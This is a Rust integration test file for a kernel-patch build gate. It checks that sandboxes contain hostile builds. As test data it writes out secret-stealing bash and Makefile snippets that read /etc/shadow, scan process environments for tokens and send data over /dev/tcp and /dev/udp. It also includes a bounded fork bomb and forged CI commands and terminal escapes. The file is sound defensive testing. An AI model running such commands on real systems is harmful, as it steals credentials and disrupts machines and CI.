//! What a stranger's build may do and what not: scripts under every mechanism that this machine has, and a hostile patch
//! series on a real kernel.

#![allow(missing_docs, clippy::unwrap_used, reason = "tests")]

mod support;

use std::fs;
use std::io::ErrorKind;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use kabigate::cpp::child::{self, Child, ChildError, Confinement, Environment, Finished};
use kabigate::kbuild::{Facts, MakeOptions, Sandbox, SandboxRequest};
use support::{Run, git};

/// What must not be seen.
const SECRET: &str = "hunter2-in-the-clear";
/// A variable that the environment of these tests has: cargo sets it.
const OURS: &str = "CARGO_MANIFEST_DIR";

fn program() -> &'static Path {
    Path::new(env!("CARGO_BIN_EXE_kabigate"))
}

fn find(request: SandboxRequest) -> Sandbox {
    let path = std::env::var_os("PATH").unwrap();
    Sandbox::find(request, program(), &path, Vec::new()).unwrap()
}

/// The sandboxes that can be had of what this machine has, with their names.
fn sandboxes() -> Vec<(&'static str, Sandbox)> {
    let all = find(SandboxRequest::Require).facts().unwrap().clone();
    let none = Facts::default();
    let alone = Facts {
        bubblewrap: None,
        ..all.clone()
    };
    let bubblewrap = Facts {
        bubblewrap: all.bubblewrap.clone(),
        ..none
    };
    let found: Vec<_> = [
        ("all", all),
        ("Landlock", alone),
        ("bubblewrap", bubblewrap),
    ]
    .into_iter()
    .filter_map(|(name, facts)| {
        let sandbox = Sandbox::with(SandboxRequest::Require, facts, program(), Vec::new());
        Some((name, sandbox.ok()?))
    })
    .collect();
    assert!(
        found.len() > 1,
        "this machine has no mechanism of its own to test"
    );
    found
}

/// A folder for a child, and one beside it that is none of its business.
struct Place {
    folder: tempfile::TempDir,
}

impl Place {
    fn new() -> Place {
        let folder = tempfile::tempdir().unwrap();
        for name in ["src", "obj/.kabigate", "home"] {
            fs::create_dir_all(folder.path().join(name)).unwrap();
        }
        fs::write(folder.path().join("home/secret"), SECRET).unwrap();
        fs::write(folder.path().join("src/file"), "source").unwrap();
        Place { folder }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().canonicalize().unwrap().join(name)
    }

    fn environment(&self, sandbox: &Sandbox) -> Environment {
        let mut options = MakeOptions::new("/usr/local/bin:/usr/bin:/bin");
        options.sandbox = sandbox.clone();
        options.environment(&[&self.path("src")], &self.path("obj"), true)
    }

    /// Runs a script of bash; `HOME_` in it stands for the folder beside.
    fn bash(
        &self,
        environment: &Environment,
        script: &str,
    ) -> Result<(Finished, String), ChildError> {
        let script = script.replace("HOME_", self.path("home").to_str().unwrap());
        let (finished, text) = child::output(&Child {
            argv: &child::argv(["bash", "-c", &script]),
            cwd: &self.path("obj"),
            environment,
            stdin: None,
            time: Duration::from_secs(60),
            output: 1 << 20,
        })?;
        let text = String::from_utf8_lossy(&text).into_owned();
        Ok((finished, text))
    }

    /// Runs it in a sandbox and gives all it said.
    #[track_caller]
    fn said(&self, sandbox: &Sandbox, script: &str) -> String {
        let (finished, text) = self.bash(&self.environment(sandbox), script).unwrap();
        text + &String::from_utf8_lossy(&finished.stderr)
    }
}

/// The environment with other bounds.
fn bounded(environment: &Environment, processes: usize, memory: u64) -> Environment {
    let words = environment.confinement.as_ref().unwrap().words.clone();
    Environment {
        confinement: Some(Arc::new(Confinement {
            words,
            processes,
            memory,
        })),
        ..environment.clone()
    }
}

/// How many processes have a word on their command line.
fn running(word: &str) -> usize {
    let lines = fs::read_dir("/proc").unwrap().filter_map(|entry| {
        let line = fs::read(entry.ok()?.path().join("cmdline")).ok()?;
        Some(String::from_utf8_lossy(&line).into_owned())
    });
    lines
        .filter(|line| line.split('\0').any(|w| w == word))
        .count()
}

/// A build works: it compiles, makes links and pipes, and reads its sources.
#[test]
fn what_a_build_does_goes_on() {
    for (name, sandbox) in sandboxes() {
        let place = Place::new();
        let said = place.said(
            &sandbox,
            "set -e; cat ../src/file; echo 'int main(void){return 0;}' >a.c; gcc a.c -o a; ./a; ln -s ../src b; mkfifo c
             cat <(echo from a pipe) >/dev/null; mktemp >/dev/null; mv a d; test -e b/file; echo well",
        );
        assert_eq!(said, "sourcewell\n", "{name}");
    }
}

/// Neither files nor environments of others are seen.
#[test]
fn secrets_stay_secret() {
    assert!(std::env::var_os(OURS).is_some());
    let script = "cat HOME_/secret; cp HOME_/secret x; ln HOME_/secret y; cat x y; env; \
        for p in /proc/[0-9]*; do tr '\\0' '\\n' <$p/environ; done; \
        cat /etc/shadow /etc/passwd; ls -A HOME_ /root /home /etc /tmp /var /run /sys";
    for (name, sandbox) in sandboxes() {
        let said = Place::new().said(&sandbox, script);
        for word in [SECRET, OURS, "root:", "shadow\n", "secret\n"] {
            assert!(!said.contains(word), "{name}: {word} in {said}");
        }
    }
    // Without a sandbox all of that is seen, so the script asks rightly.
    let said = Place::new().said(&Sandbox::default(), script);
    for word in [SECRET, OURS, "root:"] {
        assert!(said.contains(word), "{word}");
    }
}

/// Nothing outside of the own folder changes, and root's rights are gone.
#[test]
fn nothing_else_is_written() {
    let script = "echo x >HOME_/secret; echo x >HOME_/new; truncate -s 0 HOME_/secret; rm -f HOME_/secret; mv HOME_/secret .; \
        mkdir HOME_/d; ln -s x HOME_/l; echo x >../src/file; echo x >/usr/kabigate-was-here; echo x >/tmp/kabigate-was-here; \
        chown 1:1 .kabigate && echo chowned; mount -t tmpfs none .kabigate && echo mounted; mknod n c 1 3 && echo made; \
        unshare -Urm true && echo unshared; nice -n -5 true";
    for (name, sandbox) in sandboxes() {
        let place = Place::new();
        let said = place.said(&sandbox, script);
        for word in ["chowned", "mounted", "made", "unshared"] {
            // The namespaces of bubblewrap alone let a process make more of them; they hold no more than the first.
            let may = word == "unshared" && name == "bubblewrap";
            assert!(may || !said.contains(word), "{name}: {said}");
        }
        assert_eq!(
            fs::read_to_string(place.path("home/secret")).unwrap(),
            SECRET,
            "{name}"
        );
        assert_eq!(
            fs::read_to_string(place.path("src/file")).unwrap(),
            "source",
            "{name}"
        );
        assert_eq!(
            fs::read_dir(place.path("home")).unwrap().count(),
            1,
            "{name}"
        );
        for path in ["/usr/kabigate-was-here", "/tmp/kabigate-was-here"] {
            assert!(!Path::new(path).exists(), "{name}: {path}");
        }
    }
}

/// Neither the network nor a service of the machine can be reached.
#[test]
fn no_network() {
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    udp.set_nonblocking(true).unwrap();
    let script = format!(
        "(echo x >/dev/tcp/127.0.0.1/{}) && echo reached; (echo x >/dev/udp/127.0.0.1/{}) && echo sent; \
         python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"HOME_/service\"); print(\"served\")'",
        tcp.local_addr().unwrap().port(),
        udp.local_addr().unwrap().port()
    );
    let reached = |name: &str| {
        let mut buffer = [0; 8];
        let told = tcp.accept().is_ok() || udp.recv(&mut buffer).is_ok();
        assert!(name == "none" || !told, "{name}");
        told
    };
    for (name, sandbox) in sandboxes() {
        let place = Place::new();
        let _service = UnixListener::bind(place.path("home/service")).unwrap();
        let said = place.said(&sandbox, &script);
        // In a network of its own a datagram goes nowhere, and the sender does not hear of it.
        assert!(
            !said.contains("reached") && !said.contains("served"),
            "{name}: {said}"
        );
        reached(name);
    }
    Place::new().said(&Sandbox::default(), &script);
    assert!(reached("none"), "the script reaches what it can");
    assert_eq!(
        udp.take_error().unwrap().map(|e| e.kind()),
        None::<ErrorKind>
    );
}

/// Processes that multiply without end are ended, all of them, and so are those that wanted to live on.
#[test]
fn processes_are_bounded_and_end() {
    for (name, sandbox) in sandboxes() {
        let place = Place::new();
        let environment = bounded(&place.environment(&sandbox), 200, 4 << 30);
        let start = Instant::now();
        let word = format!("{}.25", 1_000_000 + std::process::id());
        // It has an end, at thousands, lest a test that fails takes the machine with it.
        let bomb = format!(
            "f() {{ sleep {word} & if [ $1 -gt 0 ]; then f $(($1 - 1)) & f $(($1 - 1)) & fi; wait; }}; f 11"
        );
        let error = place.bash(&environment, &bomb).expect_err("ends");
        let text = error.to_string();
        assert!(
            text.contains("number of its processes exceeded the limit of 200"),
            "{name}: {text}"
        );
        assert!(start.elapsed() < Duration::from_secs(50), "{name}");
        let is_gone = || running(&word) == 0;
        assert!(soon(is_gone), "{name}: {} left", running(&word));

        let word = format!("{}.75", 1_000_000 + std::process::id());
        place.said(
            &sandbox,
            &format!("setsid sleep {word} >/dev/null 2>&1 & (setsid -f sleep {word} >/dev/null 2>&1); set -m; sleep {word} >/dev/null 2>&1 & sleep 0.2"),
        );
        assert!(
            soon(|| running(&word) == 0),
            "{name}: {} left",
            running(&word)
        );
        // And nobody outside can be signalled.
        let parent = std::process::id();
        let said = place.said(&sandbox, &format!("kill -0 {parent} && echo signalled"));
        let abi = sandbox.facts().unwrap().landlock;
        assert!(
            name != "Landlock" || abi < 6 || !said.contains("signalled"),
            "{name}"
        );
    }
}

fn soon(check: impl Fn() -> bool) -> bool {
    (0..300).any(|_| {
        let is_so = check();
        if !is_so {
            std::thread::sleep(Duration::from_millis(20));
        }
        is_so
    })
}

/// Memory, files and time are bounded.
#[test]
fn memory_and_files_are_bounded() {
    let (name, sandbox) = sandboxes().remove(0);
    let place = Place::new();
    let environment = bounded(&place.environment(&sandbox), 2048, 100 << 20);
    let error = place
        .bash(
            &environment,
            "head -c 300M /dev/zero | tail -c 250M | sleep 50",
        )
        .expect_err("ends");
    assert!(
        error.to_string().contains("memory of its processes"),
        "{name}: {error}"
    );
    let said = place.said(&sandbox, "ulimit -f; ulimit -v; ulimit -c");
    assert_eq!(said, "2097152\n8388608\n0\n", "{name}");
}

/// Compilers make no links, as their results are read by name.
#[test]
fn compilers_make_no_links() {
    for (name, sandbox) in sandboxes() {
        let place = Place::new();
        let mut options = MakeOptions::new("/usr/bin:/bin");
        options.sandbox = sandbox.clone();
        let environment = options.environment(&[], &place.path("obj"), false);
        let (finished, _) = place
            .bash(&environment, "ln -s HOME_/secret a || mkfifo b")
            .unwrap();
        let is_filtered = sandbox.facts().unwrap().filter;
        assert_eq!(finished.status.success(), !is_filtered, "{name}");
    }
}

/// A user without rights has a sandbox too. Only root can try that.
#[test]
fn unprivileged_users_have_one() {
    if own_uid() != 0 {
        // Then all other tests of this file are this one.
        return;
    }
    // A copy, as the folder of the tests may be closed to others.
    let folder = tempfile::tempdir().unwrap();
    let copy = folder.path().join("kabigate");
    fs::copy(program(), &copy).unwrap();
    fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let output = std::process::Command::new("setpriv")
        .args(["--reuid", "65534", "--regid", "65534", "--clear-groups"])
        .arg(&copy)
        .args(["sandboxed", "--probe"])
        .output()
        .unwrap();
    let line = String::from_utf8_lossy(&output.stdout).into_owned();
    let own = find(SandboxRequest::Require).facts().unwrap().clone();
    assert_eq!(line, own.to_line());
}

fn own_uid() -> u32 {
    use std::os::unix::fs::MetadataExt as _;
    fs::metadata("/proc/self").unwrap().uid()
}

/// Where nothing works `require` ends with its reason before anything runs, and `auto` says so.
#[test]
fn without_any_mechanism() {
    let folder = tempfile::tempdir_in(support::target()).unwrap();
    let tree = folder.path().join("tree");
    fs::create_dir(&tree).unwrap();
    fs::write(tree.join("Makefile"), "VERSION = 6\nPATCHLEVEL = 1\n").unwrap();
    let run = |sandbox: &str| {
        Run::new(["symvers", "--config", "defconfig", "--no-cache"])
            .args(["--sandbox", sandbox, "--tree", tree.to_str().unwrap()])
            .args(["--work", folder.path().join("work").to_str().unwrap()])
            .env("PATH", "/nonexistent")
            .end()
    };
    // What a thread refuses to itself its children cannot do: here it is Landlock.
    std::thread::scope(|scope| {
        scope.spawn(|| {
            let refuse = seccompiler::SeccompAction::Errno(libc::ENOSYS.cast_unsigned());
            let rules = [(libc::SYS_landlock_create_ruleset, Vec::new())].into();
            let arch = std::env::consts::ARCH.try_into().unwrap();
            let allow = seccompiler::SeccompAction::Allow;
            let filter = seccompiler::SeccompFilter::new(rules, allow, refuse, arch).unwrap();
            let filter: seccompiler::BpfProgram = filter.try_into().unwrap();
            seccompiler::apply_filter(&filter).unwrap();
            run("require")
                .code(3)
                .err_has("no sandbox works here: neither bubblewrap (`bwrap`) nor Landlock")
                .err_has("next: install bubblewrap");
            run("auto")
                .code(2)
                .err_has("no sandbox: what the Makefiles of these commits run");
            assert!(!run("off").code(2).err.contains("no sandbox"));
        });
    });
    assert!(!run("auto").code(2).err.contains("no sandbox"));
}

/// A git tree of a real kernel with a baseline, and a folder that stands for the user's home.
struct Gate {
    folder: tempfile::TempDir,
}

/// What a hostile build says to the terminal and to the CI that runs it.
const COMMANDS: &str = "::set-output name=x::y";
const ANNOTATION: &str = "##[error]forged";

impl Gate {
    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().canonicalize().unwrap().join(name)
    }

    fn text(&self, name: &str) -> String {
        self.path(name).to_str().unwrap().to_owned()
    }

    fn new() -> Gate {
        let gate = Gate {
            folder: tempfile::tempdir_in(support::target()).unwrap(),
        };
        let tree = gate.path("linux");
        support::copy(&support::kernel("linux-6.1"), &tree);
        git(&tree, ["init", "-q", "-b", "main"]);
        git(&tree, ["add", "-A", "-f"]);
        git(&tree, ["commit", "-q", "-m", "Linux 6.1"]);
        git(&tree, ["tag", "base"]);
        fs::create_dir(gate.path("home")).unwrap();
        fs::write(gate.path("home/secret"), SECRET).unwrap();
        let top = Path::new(env!("CARGO_MANIFEST_DIR"));
        let config = top.join("tests/data/gate.config");
        gate.run([
            "baseline",
            "create",
            &gate.text("baseline"),
            "--rev",
            "base",
        ])
        .args([
            "--config",
            "tinyconfig",
            "--config",
            config.to_str().unwrap(),
        ])
        .args([
            "--protect",
            top.join("examples/stablelist").to_str().unwrap(),
        ])
        .end()
        .code(0);
        gate
    }

    fn run<const N: usize>(&self, arguments: [&str; N]) -> Run {
        Run::new(arguments)
            .args([
                "--tree",
                &self.text("linux"),
                "--cache",
                &self.text("cache"),
            ])
            .env("HOME", &self.text("home"))
            .env("GITHUB_TOKEN", SECRET)
    }

    /// A series of one patch for each text, which stands at the end of the top Makefile then. The tree stays at its tip.
    fn series(&self, texts: &[&str]) {
        let makefile = self.path("linux/Makefile");
        let before = fs::read_to_string(&makefile).unwrap();
        for text in texts {
            let text = text.replace("HOME_", &self.text("home"));
            fs::write(&makefile, format!("{before}{text}")).unwrap();
            let subject = text.lines().next().unwrap().trim_start_matches("# ");
            git(&self.path("linux"), ["commit", "-q", "-a", "-m", subject]);
        }
        git(
            &self.path("linux"),
            ["format-patch", "-q", "-o", &self.text("series"), "base"],
        );
    }

    /// Checks the series; hands back all that a person or a program reads of it, too.
    fn check(&self) -> (support::Ended, String) {
        let ended = self
            .run(["check", "--onto", "base", "--sandbox", "require"])
            .args(["--patches", &self.text("series")])
            .args(["--baseline", &self.text("baseline")])
            .args(["--output", "console"])
            .args(["--output", &format!("github:{}", self.text("r.github"))])
            .args(["--output", &format!("json:{}", self.text("r.json"))])
            .args(["--output", &format!("markdown:{}", self.text("r.md"))])
            .args(["--output", &format!("html:{}", self.text("r.html"))])
            .args(["--output", &format!("junit:{}", self.text("r.xml"))])
            .end();
        let all = ["r.json", "r.md", "r.html", "r.xml", "r.github"]
            .map(|name| {
                fs::read_to_string(self.path(name))
                    .unwrap_or_else(|error| panic!("{name}: {error}\n{}", ended.err))
            })
            .concat();
        let all = format!("{all}{}{}", ended.out, ended.err);
        (ended, all)
    }
}

/// A series whose Makefile reads secrets, writes to the home folder, calls the network, and multiplies without end: all that
/// is prevented, and the gate ends with what it found out.
#[test]
fn hostile_series() {
    let gate = Gate::new();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    udp.set_nonblocking(true).unwrap();
    // What it finds goes into a message of the build, which the report repeats.
    let steal = format!(
        "# steal\nLOOT := $(shell bash -c 'cat HOME_/secret; env | grep TOKEN; \
         for p in /proc/[0-9]*; do tr \\0 \\n <$$p/environ | grep TOKEN; done; echo x >HOME_/new; echo x >>HOME_/secret; \
         (echo x >/dev/tcp/127.0.0.1/{}); (echo x >/dev/udp/127.0.0.1/{})' 2>&1)\n",
        tcp.local_addr().unwrap().port(),
        udp.local_addr().unwrap().port()
    );
    let tell = format!(
        "# tell\n{steal}define NL\n\n\nendef\n\
         $(error *** loot: $(LOOT) $(NL){COMMANDS}$(NL)  {ANNOTATION} error \u{1b}[31mred)\n"
    );
    // It has an end, at thousands, lest a test that fails takes the machine with it.
    let multiply = "# multiply\nBOMB := $(shell bash -c 'f() { sleep 99 & if [ $$1 -gt 0 ]; then \
        f $$(($$1 - 1)) & f $$(($$1 - 1)) & fi; wait; }; f 11')\n";
    gate.series(&[&steal, &tell, multiply]);
    let is_untouched = || {
        let called = tcp.accept().is_ok() || udp.recv(&mut [0; 8]).is_ok();
        let written = fs::read_dir(gate.path("home")).unwrap().count() != 1;
        let secret = fs::read_to_string(gate.path("home/secret")).unwrap();
        !called && !written && secret == SECRET
    };

    let (ended, all) = gate.check();
    let ended = ended.code(3);
    assert!(is_untouched());
    assert!(all.contains("loot") && !all.contains(SECRET), "{all}");
    assert!(ended.out.contains("\nsandbox    ") && ended.out.contains("no network"));
    // The first commit was computed; what the second says is told, and the processes of the third are one more reason.
    let report: serde_json::Value =
        serde_json::from_slice(&fs::read(gate.path("r.json")).unwrap()).unwrap();
    let commits = report["commits"].as_array().unwrap();
    let of = |subject: &str| {
        let name = |commit: &&serde_json::Value| commit["commit"]["subject"] == subject;
        commits.iter().find(name).unwrap()["commit"]["id"].clone()
    };
    let reasons: Vec<_> = report["reasons"].as_array().unwrap().iter().collect();
    let told: Vec<_> = (reasons.iter())
        .map(|reason| (reason["code"].as_str().unwrap(), reason["commit"].clone()))
        .collect();
    assert_eq!(
        told,
        [
            ("configure-failed", of("tell")),
            ("limit-exceeded", of("multiply"))
        ],
        "{reasons:#?}"
    );
    let message = reasons[1]["message"].as_str().unwrap();
    assert!(
        message.contains("number of its processes exceeded"),
        "{message}"
    );
    // None of it is an escape sequence to the terminal, or a command to the CI.
    let annotations = fs::read_to_string(gate.path("r.github")).unwrap();
    let printed = ended.out.lines().chain(ended.err.lines());
    for line in printed.chain(annotations.lines()) {
        let ours = ["::error ", "::warning ", "::notice "];
        let is_ours = ours.iter().any(|start| line.starts_with(start));
        assert!(is_ours || !line.trim_start().starts_with("::"), "{line}");
        assert!(!line.contains("##[") && !line.contains('\u{1b}'), "{line}");
    }

    // Without a sandbox the series does what it says.
    let ended = gate
        .run([
            "symvers",
            "--sandbox",
            "off",
            "--config",
            "tinyconfig",
            "--rev",
            "HEAD~1",
        ])
        .end()
        .code(3);
    assert!(ended.err.contains(SECRET), "{}", ended.err);
    assert!(!is_untouched());
}
